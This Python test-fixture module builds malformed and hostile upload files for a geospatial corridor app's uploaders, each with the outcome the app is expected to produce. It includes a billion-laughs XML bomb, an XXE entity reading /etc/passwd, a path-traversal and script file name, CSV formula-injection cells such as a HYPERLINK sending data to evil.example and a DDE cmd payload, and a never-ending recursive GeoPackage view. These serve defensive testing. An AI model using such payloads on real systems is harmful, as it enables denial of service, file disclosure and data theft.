"""A corpus of small malformed and hostile upload files, each with its expected outcome.

``cases()`` returns :class:`Case` objects: the bytes of a file, the name it is uploaded under,
which reader takes it (``line`` or ``points``) and what must happen — an :class:`UploadError`
with a given key, or a result with given notes plus an optional ``check`` on it. The files are
generated here (nothing is stored); ``tests/test_upload_corpus.py`` runs every case through
the Corridors page's code path and the command line.
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field

import numpy as np

# Novosibirsk → Krasnoyarsk along the Trans-Siberian, and places near it
NSK, TAIGA, KRS = (82.92, 55.03), (85.62, 56.06), (92.87, 56.01)
YURGA, ACHINSK = (84.88, 55.71), (90.49, 56.27)
MOSCOW, SPB, KAZAN, SAMARA = (37.62, 55.75), (30.32, 59.94), (49.11, 55.79), (50.10, 53.20)


@dataclass
class Case:
    id: str
    kind: str  # "line" | "points"
    filename: str
    data: bytes
    error: str | None = None  # the UploadError key expected, or None for a result
    notes: tuple[str, ...] = ()  # note keys that must be reported
    check: Callable | None = None  # check(result) for a result; raises AssertionError
    why: str = ""
    exchange: bool = True
    extra: dict = field(default_factory=dict)


def fc(*features) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


def feature(geometry, **props) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def line(*coords) -> dict:
    return {"type": "LineString", "coordinates": [list(c) for c in coords]}


def multiline(*parts) -> dict:
    return {"type": "MultiLineString", "coordinates": [[list(c) for c in p] for p in parts]}


def point(c) -> dict:
    return {"type": "Point", "coordinates": list(c)}


def gpx(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><gpx version="1.1" creator="t" '
            f'xmlns="http://www.topografix.com/GPX/1/1">{body}</gpx>').encode()


def trkseg(*coords) -> str:
    return "<trkseg>" + "".join(f'<trkpt lat="{y}" lon="{x}"/>' for x, y in coords) + "</trkseg>"


def kml(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
            f"<Document>{body}</Document></kml>").encode()


def kml_line(*coords) -> str:
    return ("<Placemark><name>route</name><LineString><coordinates>"
            + " ".join(f"{x},{y}" for x, y in coords) + "</coordinates></LineString></Placemark>")


def kml_point(name, c) -> str:
    return f"<Placemark><name>{name}</name><Point><coordinates>{c[0]},{c[1]}</coordinates></Point></Placemark>"


def csv_text(header, rows, sep=",") -> str:
    return sep.join(header) + "\n" + "".join(sep.join(str(v) for v in r) + "\n" for r in rows)


def gpkg_bytes(gdf) -> bytes:
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "x.gpkg"
        gdf.to_file(p, driver="GPKG")
        return p.read_bytes()


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10))
                  + ']><gpx version="1.1"><trk><name>&lol9;</name></trk></gpx>').encode()
XXE = ('<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name><LineString>'
       '<coordinates>82.9,55.0 92.9,56.0</coordinates></LineString></Placemark></kml>').encode()


# -- checks -------------------------------------------------------------------------------------
def n_rows(n):
    def check(res):
        assert len(res[0]) == n, f"{len(res[0])} rows, expected {n}"
    return check


def points_at(*coords, atol=1e-9):
    def check(res):
        pts = res[0]
        got = np.column_stack([pts.geometry.x, pts.geometry.y])
        assert np.allclose(got, np.array(coords, dtype=float), atol=atol), got
    return check


def parts(n, chained=None):
    def check(res):
        from atlas.api import as_corridor

        lines = res[0]
        c = as_corridor(lines)
        got = int(c.meta.get("parts", 1))
        assert got == n, f"{got} parts, expected {n}"
        if chained is not None:
            assert bool(c.meta.get("chained", False)) == chained
    return check


def column_equals(col, values):
    def check(res):
        assert list(res[0][col]) == list(values), list(res[0][col])
    return check


def encoding_is(label):
    def check(res):
        assert res.encoding == label, res.encoding
    return check


def attr_equals(name, value):
    def check(res):
        assert getattr(res, name) == value, f"{name} = {getattr(res, name)!r}, expected {value!r}"
    return check


def all_of(*checks):
    def check(res):
        for c in checks:
            c(res)
    return check


def cases() -> list[Case]:
    good = fc(feature(line(NSK, TAIGA, KRS), name="Новосибирск – Красноярск"))
    out: list[Case] = []
    add = out.append

    # ---- lines: good files in every format ----
    add(Case("line_geojson_good", "line", "route.geojson", good, check=parts(1)))
    add(Case("line_json_suffix", "line", "route.json", good, check=parts(1)))
    add(Case("line_gpx_track", "line", "r.gpx", gpx("<trk>" + trkseg(NSK, KRS) + "</trk>"), check=parts(1)))
    add(Case("line_gpx_route", "line", "r.gpx", gpx('<rte><rtept lat="55.03" lon="82.92"/><rtept lat="56.01" '
                                                     'lon="92.87"/></rte>'), check=parts(1)))
    add(Case("line_kml_good", "line", "r.kml", kml(kml_line(NSK, KRS)), check=parts(1)))
    add(Case("line_kml_folders_two_layers", "line", "r.kml",
             kml("<Folder><name>a</name>" + kml_line(NSK, TAIGA) + "</Folder><Folder><name>b</name>"
                 + kml_line(TAIGA, KRS) + "</Folder>"), check=parts(2, chained=True),
             why="two folders are two layers; both are read, and they meet end to start"))
    add(Case("line_3d_coordinates", "line", "r.geojson",
             fc(feature(line((*NSK, 150), (*KRS, 280)))), check=parts(1)))
    add(Case("line_geometrycollection", "line", "r.geojson",
             fc(feature({"type": "GeometryCollection", "geometries": [point(NSK), line(NSK, KRS)]})),
             check=parts(1)))
    add(Case("line_null_geometry_and_good", "line", "r.geojson",
             fc(feature(None), feature(line(NSK, KRS))), check=parts(1)))
    add(Case("line_antimeridian_chukotka", "line", "r.geojson",
             fc(feature(line((177.5, 64.7), (-179.9, 65.5), (-175.0, 66.0)))), check=parts(1)))
    add(Case("line_hostile_name", "line", "../../etc/<script>alert(1)</script>.geojson", good, check=parts(1),
             why="the name is only used for its suffix"))

    # ---- lines: several parts ----
    add(Case("line_multilinestring_two_separate_parts", "line", "m.geojson",
             fc(feature(multiline([MOSCOW, KAZAN], [NSK, KRS]))),
             check=parts(2, chained=False), why="no 3,000 km leg from Kazan to Novosibirsk"))
    add(Case("line_multilinestring_chained", "line", "m.geojson",
             fc(feature(multiline([NSK, TAIGA], [TAIGA, KRS]))), check=parts(2, chained=True)))
    add(Case("line_two_crossing_features", "line", "x.geojson",
             fc(feature(line((80.0, 54.0), (90.0, 58.0))), feature(line((80.0, 58.0), (90.0, 54.0)))),
             check=parts(2, chained=False), why="crossing lines are not re-chained into one route"))
    add(Case("line_parts_touch_in_reverse_order", "line", "r.geojson",
             fc(feature(line(TAIGA, KRS)), feature(line(NSK, TAIGA))), check=parts(2, chained=False),
             why="file order is the route order; reversed parts stay apart"))
    add(Case("line_gpx_two_segments_apart", "line", "r.gpx",
             gpx("<trk>" + trkseg(MOSCOW, KAZAN) + trkseg(NSK, KRS) + "</trk>"), check=parts(2, chained=False)))
    add(Case("line_one_degenerate_part", "line", "r.geojson",
             fc(feature(multiline([NSK, NSK], [NSK, KRS]))), notes=("parts_dropped_degenerate",),
             check=parts(1)))

    # ---- lines: bad geometry ----
    add(Case("line_two_identical_points", "line", "r.geojson", fc(feature(line(NSK, NSK))),
             error="line_degenerate"))
    add(Case("line_all_parts_degenerate", "line", "r.geojson",
             fc(feature(multiline([NSK, NSK], [KRS, KRS]))), error="line_degenerate_all"))
    add(Case("line_nan_coordinates", "line", "r.geojson",
             b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":'
             b'{"type":"LineString","coordinates":[[82.9,55.0],[NaN,56.0],[92.9,56.0]]}}]}',
             error="line_nonfinite"))
    add(Case("line_lon_500", "line", "r.geojson", fc(feature(line((500.0, 55.0), (92.9, 56.0)))),
             error="line_impossible"))
    add(Case("line_latlon_order", "line", "r.geojson",
             fc(feature(line(NSK[::-1], TAIGA[::-1], KRS[::-1]))), notes=("line_exchanged",),
             check=lambda res: np.testing.assert_allclose(
                 np.asarray(res[0].geometry.iloc[0].coords), [NSK, TAIGA, KRS]),
             why="a [lat, lon] GeoJSON line is exchanged by the stated rule and says so"))
    add(Case("line_latlon_order_kept_when_asked", "line", "r.geojson",
             fc(feature(line(NSK[::-1], TAIGA[::-1]))), exchange=False,
             check=lambda res: np.testing.assert_allclose(np.asarray(res[0].geometry.iloc[0].coords),
                                                          [NSK[::-1], TAIGA[::-1]])))
    add(Case("line_latlon_impossible_kept_when_asked", "line", "r.geojson",
             fc(feature(line(NSK[::-1], KRS[::-1]))), exchange=False, error="line_impossible"))
    add(Case("line_valid_line_in_india_kept", "line", "r.geojson",
             fc(feature(line((77.2, 28.6), (72.9, 19.1)))),
             check=lambda res: np.testing.assert_allclose(np.asarray(res[0].geometry.iloc[0].coords),
                                                          [(77.2, 28.6), (72.9, 19.1)])))
    add(Case("line_points_only", "line", "p.geojson", fc(feature(point(NSK))), error="need_line"))
    add(Case("line_polygon_only", "line", "p.geojson",
             fc(feature({"type": "Polygon", "coordinates": [[[80, 50], [81, 50], [81, 51], [80, 50]]]})),
             error="need_line"))
    add(Case("line_projected_without_crs", "line", "x.geojson",
             fc(feature(line((4_000_000, 6_000_000), (4_100_000, 6_100_000)))), error="not_degrees"))

    # ---- lines: bad files ----
    add(Case("line_empty_file", "line", "x.geojson", b"", error="empty"))
    add(Case("line_broken_json", "line", "x.geojson", b'{"type": "FeatureCollection", "features": [ broken',
             error="unreadable"))
    add(Case("line_text_named_gpx", "line", "notes.gpx", b"just some text, not GPX at all\n",
             error="unreadable"))
    add(Case("line_xml_bomb_named_gpx", "line", "bomb.gpx", BILLION_LAUGHS, error="xml_doctype"))
    add(Case("line_xxe_kml", "line", "xxe.kml", XXE, error="xml_doctype"))
    add(Case("line_kml_without_placemarks", "line", "empty.kml", kml(""), error="no_features"))
    add(Case("line_kml_bare_root", "line", "empty.kml", b"<kml/>", error="no_features|unreadable"))
    add(Case("line_html_named_kml", "line", "page.kml", b"<html><body>hello</body></html>",
             error="unreadable|no_features"))
    add(Case("line_json_array", "line", "x.geojson", b"[]", error="unreadable|no_features"))
    add(Case("line_deeply_nested_json", "line", "x.geojson", b"[" * 20000 + b"]" * 20000,
             error="unreadable|no_features"))
    add(Case("line_garbage_gpkg", "line", "x.gpkg", bytes(range(256)) * 64, error="unreadable"))
    add(Case("line_unsupported_suffix", "line", "x.shp", b"abc", error="type"))
    add(Case("line_no_suffix", "line", "route", good, error="type"))
    add(Case("line_too_big", "line", "big.geojson", b" ", error="too_big",
             extra={"size": "max+1"}))
    add(Case("line_too_many_vertices", "line", "long.geojson",
             fc(feature(line(*[(80 + i * 1e-5, 55.0) for i in range(200_001)]))), error="too_many_vertices"))
    add(Case("line_featurecollection_empty", "line", "x.geojson", fc(), error="no_features|unreadable"))

    # ---- lines: encodings and formats ----
    cyr = fc(feature(line(NSK, KRS), name="Транссиб: Новосибирск – Красноярск, участок"))
    add(Case("line_geojson_cp1251", "line", "r.geojson",
             json.dumps(json.loads(cyr), ensure_ascii=False).encode("cp1251"), notes=("encoding",),
             check=parts(1)))
    add(Case("line_geojson_utf16", "line", "r.geojson",
             json.dumps(json.loads(cyr), ensure_ascii=False).encode("utf-16"), notes=("encoding",),
             check=parts(1)))

    import geopandas as gpd
    import shapely

    add(Case("line_gpkg_good", "line", "r.gpkg",
             gpkg_bytes(gpd.GeoDataFrame({"name": ["a"]}, geometry=[shapely.LineString([NSK, KRS])], crs=4326)),
             check=parts(1)))
    add(Case("line_gpkg_in_3857", "line", "r.gpkg",
             gpkg_bytes(gpd.GeoDataFrame(geometry=[shapely.LineString([NSK, KRS])], crs=4326).to_crs(3857)),
             check=lambda res: np.testing.assert_allclose(np.asarray(res[0].geometry.iloc[0].coords),
                                                          [NSK, KRS], atol=1e-6)))

    # ---- points: CSV coordinates, row by row ----
    base = [("Юрга", *YURGA), ("Тайга", *TAIGA), ("Ачинск", *ACHINSK)]
    add(Case("pts_csv_good", "points", "p.csv", csv_text(["name", "lon", "lat"], base).encode(),
             notes=("encoding",), check=all_of(n_rows(3), points_at(YURGA, TAIGA, ACHINSK))))
    add(Case("pts_lon_500_row", "points", "p.csv",
             csv_text(["name", "lon", "lat"], base[:1] + [("bad", 500, 55)] + base[1:]).encode(),
             notes=("rows_skipped",),
             check=all_of(n_rows(3), attr_equals("skipped_rows", [3]))))
    add(Case("pts_swapped_west_of_85E", "points", "p.csv",
             csv_text(["name", "lon", "lat"], [("Москва", MOSCOW[1], MOSCOW[0]), ("Казань", KAZAN[1], KAZAN[0]),
                                               ("Самара", SAMARA[1], SAMARA[0]), ("Питер", SPB[1], SPB[0])]).encode(),
             notes=("rows_exchanged", "rows_held"),
             check=all_of(points_at(MOSCOW, KAZAN[::-1], SAMARA[::-1], SPB), attr_equals("exchanged_rows", [2, 5])),
             why="Moscow and St Petersburg as given lie in Turkmenistan/Iran, exchanged in Russia; Kazan and "
                 "Samara as given lie in Kazakhstan, a neighbour, so they are kept and the note says so"))
    add(Case("pts_swapped_file_read_latlon", "points", "p.csv",
             csv_text(["name", "lon", "lat"], [("Москва", MOSCOW[1], MOSCOW[0]), ("Казань", KAZAN[1], KAZAN[0]),
                                               ("Самара", SAMARA[1], SAMARA[0]), ("Питер", SPB[1], SPB[0])]).encode(),
             notes=("rows_exchanged_all",), check=points_at(MOSCOW, KAZAN, SAMARA, SPB),
             why="the reader chose (lat, lon) for the whole file", extra={"order": "latlon"}))
    rows = [("a", *YURGA), ("b", *TAIGA), ("c", NSK[1], NSK[0]), ("d", *ACHINSK), ("e", *KRS), ("f", *MOSCOW)]
    add(Case("pts_one_swapped_among_five", "points", "p.csv", csv_text(["name", "lon", "lat"], rows).encode(),
             notes=("rows_exchanged",),
             check=all_of(points_at(YURGA, TAIGA, NSK, ACHINSK, KRS, MOSCOW), attr_equals("exchanged_rows", [4]))))
    add(Case("pts_lat_95_row", "points", "p.csv",
             csv_text(["name", "lon", "lat"], base + [("x", 30, 95)]).encode(), notes=("rows_skipped",),
             check=all_of(points_at(YURGA, TAIGA, ACHINSK), attr_equals("exchanged_rows", []),
                          attr_equals("skipped_rows", [5]))))
    india = [("Delhi", 77.21, 28.61), ("Mumbai", 72.88, 19.08), ("Chennai", 80.27, 13.08), ("Kolkata", 88.36, 22.57)]
    add(Case("pts_india_not_swapped", "points", "p.csv", csv_text(["name", "lon", "lat"], india).encode(),
             check=all_of(points_at(*[r[1:] for r in india]), attr_equals("exchanged_rows", []))))
    world = [("Rio", -43.2, -22.9), ("Sydney", 151.2, -33.9), ("NYC", -74.0, 40.7), ("Berlin", 13.4, 52.5),
             ("Almaty", 76.9, 43.2), ("Beijing", 116.4, 39.9)]
    add(Case("pts_valid_points_anywhere_kept", "points", "p.csv", csv_text(["name", "lon", "lat"], world).encode(),
             check=points_at(*[r[1:] for r in world])))
    add(Case("pts_swapped_east_of_90E", "points", "p.csv",
             csv_text(["name", "lon", "lat"], [("Владивосток", 43.12, 131.89), ("Хабаровск", 48.48, 135.08)]).encode(),
             notes=("rows_exchanged",), check=points_at((131.89, 43.12), (135.08, 48.48))))
    # real points in Kazakhstan near the border: exchanged they would lie in Russia, but a point in a
    # neighbouring country is never moved; the note names the rows
    kaz = [("Костанай", 63.63, 53.21), ("Петропавловск", 69.14, 54.87), ("Актобе", 57.21, 50.28),
           ("Семей", 80.23, 50.41), ("Уральск", 51.37, 51.23)]
    add(Case("pts_kazakhstan_points_never_moved", "points", "p.csv", csv_text(["name", "lon", "lat"], kaz).encode(),
             notes=("rows_held",),
             check=all_of(points_at(*[r[1:] for r in kaz]), attr_equals("exchanged_rows", []))))
    add(Case("pts_kazakhstan_point_kept_when_asked", "points", "p.csv",
             csv_text(["name", "lon", "lat"], [("Актобе", 57.21, 50.28)]).encode(), exchange=False,
             check=all_of(points_at((57.21, 50.28)), attr_equals("exchanged_rows", []))))
    add(Case("pts_swapped_kept_when_asked", "points", "p.csv",
             csv_text(["name", "lon", "lat"], [("Москва", MOSCOW[1], MOSCOW[0])]).encode(), exchange=False,
             check=points_at(MOSCOW[::-1])))
    add(Case("pts_nan_text_coordinates", "points", "p.csv",
             csv_text(["name", "lon", "lat"], base + [("n", "nan", "55"), ("e", "", ""), ("t", "abc", "56")]).encode(),
             notes=("rows_skipped",), check=n_rows(3)))
    add(Case("pts_all_invalid", "points", "p.csv", csv_text(["name", "lon", "lat"], [("a", 500, 500)]).encode(),
             error="no_valid_rows"))
    add(Case("pts_semicolon_comma_decimal", "points", "p.csv",
             "name;lon;lat\nЮрга;84,88;55,71\nАчинск;90,49;56,27\n".encode(), check=points_at((84.88, 55.71), (90.49, 56.27))))
    add(Case("pts_tab_separated", "points", "p.tsv", csv_text(["name", "lon", "lat"], base, "\t").encode(),
             check=n_rows(3)))
    add(Case("pts_unicode_minus", "points", "p.csv", "name,lon,lat\nx,\u221243.2,\u221222.9\n".encode(),
             check=points_at((-43.2, -22.9))))
    add(Case("pts_russian_column_names_reversed", "points", "p.csv",
             "город;широта;долгота\nЮрга;55,71;84,88\n".encode(), check=points_at((84.88, 55.71))))
    add(Case("pts_ragged_row", "points", "p.csv",
             "name,lon,lat\nЮрга,84.88,55.71\nbad,1,2,3,4\nТайга,85.62,56.06\n".encode(),
             notes=("csv_bad_lines",), check=n_rows(2)))
    add(Case("pts_duplicate_headers", "points", "p.csv",
             "name,name,lon,lat\nЮрга,Yurga,84.88,55.71\n".encode(), notes=("headers_renamed",), check=n_rows(1)))

    # ---- points: text encodings ----
    cyr_rows = [("Юрга", *YURGA), ("Анжеро-Судженск", 86.08, 56.08), ("Тайга", *TAIGA)]
    text = csv_text(["название", "lon", "lat"], cyr_rows, ";")
    for enc, label in (("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8 (BOM)"), ("utf-16", "UTF-16"),
                       ("cp1251", "Windows-1251"), ("koi8-r", "KOI8-R"), ("cp866", "CP866 (DOS)")):
        add(Case(f"pts_csv_{enc}", "points", "p.csv", text.encode(enc), notes=("encoding",),
                 check=all_of(encoding_is(label), column_equals("название", [r[0] for r in cyr_rows]))))
    short = "name;lon;lat\nЮрга;84,88;55,71\n"
    add(Case("pts_csv_koi8r_one_row", "points", "p.csv", short.encode("koi8-r"),
             check=all_of(encoding_is("KOI8-R"), column_equals("name", ["Юрга"]))))
    add(Case("pts_csv_utf16le_without_bom", "points", "p.csv", text.encode("utf-16-le"),
             check=column_equals("название", [r[0] for r in cyr_rows])))
    add(Case("pts_binary_garbage", "points", "p.csv", bytes(range(256)) * 4,
             error="decode|csv_no_coords|csv_parse|csv_no_rows"))

    # ---- points: the user's columns ----
    add(Case("pts_user_columns_collide", "points", "p.csv",
             csv_text(["name", "lon", "lat", "chainage_km", "side", "corridor_id", "offset_km"],
                      [("Юрга", *YURGA, "mine-1", "north", "my-corr", "7"),
                       ("Тайга", *TAIGA, "mine-2", "south", "my-corr", "8")]).encode(),
             check=all_of(column_equals("chainage_km", ["mine-1", "mine-2"]), column_equals("side", ["north", "south"]))))
    add(Case("pts_hyperlink_cells", "points", "p.csv",
             csv_text(["name", "lon", "lat", "note"],
                      [('=HYPERLINK("http://evil.example/?x="&A1;"click")', *YURGA, "+1+2"),
                       ("@SUM(A1:A9)", *TAIGA, "-5"), ("-cmd|' /C calc'!A0", *ACHINSK, "=1+1")]).encode(),
             check=n_rows(3)))
    add(Case("pts_formula_header", "points", "p.csv",
             csv_text(["=cmd()", "lon", "lat"], [("x", *YURGA)]).encode(), check=n_rows(1)))
    add(Case("pts_string_fid_column", "points", "p.csv",
             csv_text(["fid", "name", "lon", "lat"], [("a-1", "Юрга", *YURGA), ("b-2", "Тайга", *TAIGA)]).encode(),
             check=column_equals("fid", ["a-1", "b-2"])))
    add(Case("pts_geometry_and_geom_columns", "points", "p.csv",
             csv_text(["geometry", "geom", "lon", "lat"], [("mine", "also mine", *YURGA)]).encode(),
             check=all_of(column_equals("geometry", ["mine"]), column_equals("geom", ["also mine"]))))
    add(Case("pts_names_differing_only_in_case", "points", "p.csv",
             'Name,name,NAME,lon,lat,"a""b",FID\nx,y,z,84.88,55.71,q,1\n'.encode(),
             check=all_of(column_equals("Name", ["x"]), column_equals("name", ["y"]), column_equals('a"b', ["q"])),
             why="a GeoPackage field name is case-insensitive: the download renames the second, nothing fails"))
    add(Case("pts_leading_zeros_kept", "points", "p.csv",
             csv_text(["code", "lon", "lat"], [("007", *YURGA), ("1e3", *TAIGA)]).encode(),
             check=column_equals("code", ["007", "1e3"])))

    # ---- points: bad CSV ----
    add(Case("pts_empty", "points", "p.csv", b"", error="empty"))
    add(Case("pts_header_only", "points", "p.csv", b"lon,lat\n", error="csv_no_rows"))
    add(Case("pts_no_coordinate_columns", "points", "p.csv", b"name,city\na,b\n", error="csv_no_coords"))
    add(Case("pts_too_many_rows", "points", "p.csv", b"lon,lat\n" + b"84,55\n" * 1_000_001,
             error="too_many_points", why="refused before parsing"))
    add(Case("pts_too_many_columns", "points", "p.csv",
             (",".join(f"c{i}" for i in range(300_000)) + ",lon,lat\n" + "1," * 300_000 + "84.88,55.71\n").encode(),
             error="too_many_columns", why="refused before parsing (pandas takes ~20 s for 300,000 columns)"))
    add(Case("pts_geojson_too_many_properties", "points", "p.geojson",
             fc(feature(point(YURGA), **{f"p{i}": i for i in range(1_500)})), error="too_many_columns"))
    add(Case("pts_unsupported_suffix", "points", "p.xlsx", b"PK\x03\x04", error="type"))

    # ---- points: vector files ----
    add(Case("pts_geojson_good", "points", "p.geojson",
             fc(feature(point(YURGA), name="Юрга"), feature(point(TAIGA), name="Тайга")), check=n_rows(2)))
    add(Case("pts_geojson_nan_coordinate", "points", "p.geojson",
             b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"a"},'
             b'"geometry":{"type":"Point","coordinates":[NaN,55.0]}},{"type":"Feature","properties":{"name":"b"},'
             b'"geometry":{"type":"Point","coordinates":[84.88,55.71]}}]}',
             notes=("features_skipped",), check=n_rows(1)))
    add(Case("pts_geojson_latlon_point", "points", "p.geojson", fc(feature(point(MOSCOW[::-1]), name="Москва")),
             notes=("features_exchanged",), check=points_at(MOSCOW)))
    add(Case("pts_geojson_lines_only", "points", "p.geojson", good, error="no_points"))
    add(Case("pts_geojson_mixed", "points", "p.geojson", fc(feature(point(YURGA)), feature(line(NSK, KRS))),
             notes=("non_points_skipped",), check=n_rows(1)))
    add(Case("pts_kml_points", "points", "p.kml", kml(kml_point("Юрга", YURGA) + kml_point("Тайга", TAIGA)),
             check=n_rows(2)))
    add(Case("pts_gpx_waypoints", "points", "p.gpx",
             gpx(f'<wpt lat="{YURGA[1]}" lon="{YURGA[0]}"><name>Юрга</name></wpt>'), check=n_rows(1)))
    add(Case("pts_xml_bomb_kml", "points", "p.kml", BILLION_LAUGHS, error="xml_doctype"))
    add(Case("pts_gpkg_recursive_view", "points", "v.gpkg", gpkg_with_recursive_view(), error="gpkg_view",
             why="a view could run forever; only tables are read"))
    add(Case("line_xml_bomb_utf16_kml", "line", "bomb.kml", BILLION_LAUGHS.decode().encode("utf-16"),
             error="xml_doctype|unreadable"))
    add(Case("pts_excel_sep_line", "points", "p.csv", "sep=;\nname;lon;lat\nЮрга;84,88;55,71\n".encode("cp1251"),
             check=all_of(points_at((84.88, 55.71)), column_equals("name", ["Юрга"]))))
    add(Case("pts_gpkg_string_fid", "points", "p.gpkg",
             gpkg_bytes(gpd.GeoDataFrame({"name": ["Юрга"]}, geometry=[shapely.Point(YURGA)], crs=4326)),
             check=n_rows(1)))
    return out


def gpkg_with_recursive_view() -> bytes:
    """A GeoPackage whose only layer is a view of a recursive query that never ends."""
    import sqlite3
    import tempfile
    from pathlib import Path

    import geopandas as gpd
    import shapely

    with tempfile.TemporaryDirectory() as tmp:
        p = Path(tmp) / "v.gpkg"
        p.write_bytes(gpkg_bytes(gpd.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(YURGA)], crs=4326)))
        con = sqlite3.connect(p)
        con.executescript(
            "CREATE VIEW forever AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) "
            "SELECT n AS fid, (SELECT geom FROM x LIMIT 1) AS geom FROM r;"
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('forever', 'features', 'forever', 4326);"
            "INSERT INTO gpkg_geometry_columns VALUES ('forever', 'geom', 'POINT', 4326, 0, 0);"
            "DELETE FROM gpkg_geometry_columns WHERE table_name = 'x';"
            "DELETE FROM gpkg_contents WHERE table_name = 'x';")
        con.commit()
        con.close()
        return p.read_bytes()


def materialise(case: Case) -> bytes:
    """The bytes of a case (the oversized one is built on demand)."""
    if case.extra.get("size") == "max+1":
        from atlas.uploads import MAX_UPLOAD_BYTES

        return b" " * (MAX_UPLOAD_BYTES + 1)
    return case.data


def big_points_csv(n: int = 1_000_000, seed: int = 0) -> bytes:
    """``n`` random points over Russia and its neighbours with two extra columns (~26 MB at 10⁶)."""
    rng = np.random.default_rng(seed)
    lon = rng.uniform(30, 140, n).round(5)
    lat = rng.uniform(42, 70, n).round(5)
    buf = io.StringIO()
    buf.write("id,name,lon,lat\n")
    ids = np.arange(n)
    for start in range(0, n, 100_000):
        sl = slice(start, start + 100_000)
        buf.write("".join(f"{i},p{i},{x},{y}\n" for i, x, y in zip(ids[sl], lon[sl], lat[sl])))
    return buf.getvalue().encode()


# -- the Corridors page with its uploaders fed from a file (AppTest) ------------------------------
PAGE_SCRIPT = """
import pickle
import runpy
import streamlit as st

FILES = pickle.loads(open({path!r}, "rb").read())


class _Upload:
    def __init__(self, name, data):
        self.name, self._data, self.size = name, data, len(data)
        self.file_id = f"{{name}}-{{len(data)}}-{{hash(data)}}"

    def getvalue(self):
        return self._data


def _uploader(label, *args, key=None, **kwargs):
    f = FILES.get(key)
    return _Upload(*f) if f else None


_real = st.file_uploader
st.file_uploader = _uploader
try:
    runpy.run_path({page!r}, run_name="__main__")
finally:
    st.file_uploader = _real
"""


def corridor_page_app(files, timeout: float = 120):
    """An AppTest of pages/corridors.py whose uploaders return ``files`` ({key: (name, bytes)}).

    ``files`` may instead be a path: the page reads the pickled dict there on every run, so a
    test can change the uploaded files between runs of one session."""
    import pickle
    import tempfile
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    if not isinstance(files, (str, Path)):
        import atexit
        import os

        fd, tmp = tempfile.mkstemp(suffix=".pkl")
        with open(fd, "wb") as f:
            f.write(pickle.dumps(files))
        atexit.register(os.unlink, tmp)  # the page reads it on every run of the test's session
        files = tmp
    page = Path(__file__).resolve().parents[1] / "pages" / "corridors.py"
    return AppTest.from_string(PAGE_SCRIPT.format(path=str(files), page=str(page)), default_timeout=timeout)
